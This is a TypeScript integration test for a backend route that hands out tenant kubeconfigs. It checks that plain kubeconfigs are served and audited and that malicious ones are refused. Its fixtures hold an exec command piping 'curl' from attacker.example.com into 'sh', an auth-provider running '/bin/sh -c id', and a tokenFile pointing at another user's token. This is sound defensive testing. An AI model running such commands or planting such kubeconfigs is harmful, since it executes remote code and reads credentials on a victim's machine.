import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { mockCredentials } from '@backstage/backend-test-utils';
import {
  adminKubectl,
  installVclusterCrds,
  testCluster,
  uniqueName,
} from '@internal/kaas-test-cluster';
import request from 'supertest';
import YAML from 'yaml';
import {
  credentialRoutesConfigReader,
  ownerPolicy,
  startCredentialRoutesBackend,
  tenantsOver,
} from '../__testUtils__/credentialRoutesBackend';

/** A kubeconfig as Cluster API writes it, with `user` as its one user. */
function clusterKubeconfig(name: string, user: Record<string, unknown>) {
  return YAML.stringify({
    apiVersion: 'v1',
    kind: 'Config',
    clusters: [
      {
        name,
        cluster: {
          server: `https://${name}.t-${name}.svc:443`,
          'certificate-authority-data': 'Q0E=',
        },
      },
    ],
    users: [{ name: `${name}-admin`, user }],
    contexts: [
      {
        name: `${name}-admin@${name}`,
        context: { cluster: name, user: `${name}-admin` },
      },
    ],
    'current-context': `${name}-admin@${name}`,
  });
}

describe('cluster kubeconfig download against the local control plane', () => {
  const cluster = testCluster();
  const alice = mockCredentials.user.header('user:default/alice');
  const tenant = uniqueName('kc-vc-route');
  let backend: Awaited<ReturnType<typeof startCredentialRoutesBackend>>;

  /** Writes the `<tenant>-kubeconfig` Secret as cluster admin, as Cluster API (or a member who could write it) would. */
  async function writeKubeconfigSecret(kubeconfig: string) {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'kaas-cluster-kc-'));
    const file = path.join(dir, 'secret.yaml');
    fs.writeFileSync(
      file,
      YAML.stringify({
        apiVersion: 'v1',
        kind: 'Secret',
        metadata: {
          name: `${tenant}-kubeconfig`,
          namespace: `t-${tenant}`,
          labels: { 'cluster.x-k8s.io/cluster-name': tenant },
        },
        type: 'cluster.x-k8s.io/secret',
        data: { value: Buffer.from(kubeconfig).toString('base64') },
      }),
    );
    await adminKubectl(
      cluster,
      'apply',
      '--server-side',
      '--force-conflicts',
      '-f',
      file,
    );
    fs.rmSync(dir, { recursive: true, force: true });
  }

  const download = () =>
    request(backend.server)
      .post(`/api/kaas/tenants/${tenant}/kubeconfig`)
      .set('Authorization', alice)
      .send({ mode: 'cluster' });

  beforeAll(async () => {
    await installVclusterCrds(cluster);
    await tenantsOver(credentialRoutesConfigReader()).createTenant(
      tenant,
      'group:default/team-a',
      'vcluster',
    );
    backend = await startCredentialRoutesBackend(ownerPolicy());
  }, 120_000);

  afterAll(async () => {
    await backend?.stop();
  });

  it('hands a member the plain kubeconfig Cluster API wrote, and audits the issuance', async () => {
    const written = clusterKubeconfig(tenant, {
      'client-certificate-data': 'Q0VSVA==',
      'client-key-data': 'S0VZ',
    });
    await writeKubeconfigSecret(written);
    const res = await download();
    expect(res.status).toBe(200);
    expect(res.body).toMatchObject({
      tenant,
      mode: 'cluster',
      context: `${tenant}-admin@${tenant}`,
      kubeconfig: written,
    });
    const events = backend.logger
      .auditEvents()
      .filter(e => e.eventId === 'kubeconfig-issue');
    expect(events.map(e => e.status)).toEqual(['initiated', 'succeeded']);
    expect(events[1]).toMatchObject({
      severityLevel: 'high',
      actor: { actorId: 'user:default/alice' },
      meta: {
        tenant,
        mode: 'cluster',
        context: `${tenant}-admin@${tenant}`,
      },
    });
    expect(backend.logger.lines.join('\n')).not.toContain('S0VZ');
  });

  it.each([
    [
      'exec',
      {
        exec: {
          apiVersion: 'client.authentication.k8s.io/v1',
          command: 'sh',
          args: ['-c', 'curl -s https://attacker.example.com/x | sh'],
          interactiveMode: 'Never',
        },
      },
    ],
    [
      'auth-provider',
      {
        'auth-provider': {
          name: 'gcp',
          config: { 'cmd-path': '/bin/sh', 'cmd-args': '-c id' },
        },
      },
    ],
    ['tokenFile', { tokenFile: '/home/alice/.kube/other-token' }],
  ])(
    "refuses a kubeconfig whose user has %s (it would run or read something on the downloader's machine), and audits the refusal",
    async (field, user) => {
      await writeKubeconfigSecret(clusterKubeconfig(tenant, user));
      const before = backend.logger.auditEvents().length;
      const res = await download();
      expect(res.status).toBe(409);
      expect(res.body.kubeconfig).toBeUndefined();
      expect(res.body.error.message).toBe(
        `Secret 't-${tenant}/${tenant}-kubeconfig' holds a kubeconfig whose user '${tenant}-admin' has '${field}'; only plain kubeconfigs (client certificate, key or token in the file) are handed out, since anything else would run a command or read a file on your machine. Ask the platform team to check who wrote this Secret`,
      );
      expect(JSON.stringify(res.body)).not.toMatch(
        /attacker|cmd-path|other-token/,
      );
      const events = backend.logger
        .auditEvents()
        .slice(before)
        .filter(e => e.eventId === 'kubeconfig-issue');
      expect(events.map(e => e.status)).toEqual(['initiated', 'failed']);
      expect(events[1]).toMatchObject({
        actor: { actorId: 'user:default/alice' },
        meta: { tenant },
      });
    },
  );
});
